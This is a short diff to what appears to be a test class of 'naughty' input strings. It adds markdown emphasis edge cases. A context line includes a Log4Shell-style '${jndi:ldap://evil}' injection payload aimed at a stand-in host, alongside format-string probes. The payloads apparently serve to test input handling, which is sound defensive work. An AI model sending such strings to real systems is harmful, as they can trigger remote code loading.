@@ -93,6 +93,7 @@ final class Naughty {
           "| a | b |",
           "a \\| b \\",
           "*emphasis* __strong__ ~~strike~~ <kbd>k</kbd>",
+          "_a_ a_b_c __a__b_c_ _a_b_",
           "$x^2$ [^1] :smile: {: .class}",
           "{0} {1} {{x}} ${jndi:ldap://evil} %s %n %1$s",
           "\\u0000 \\n \\\" \\",
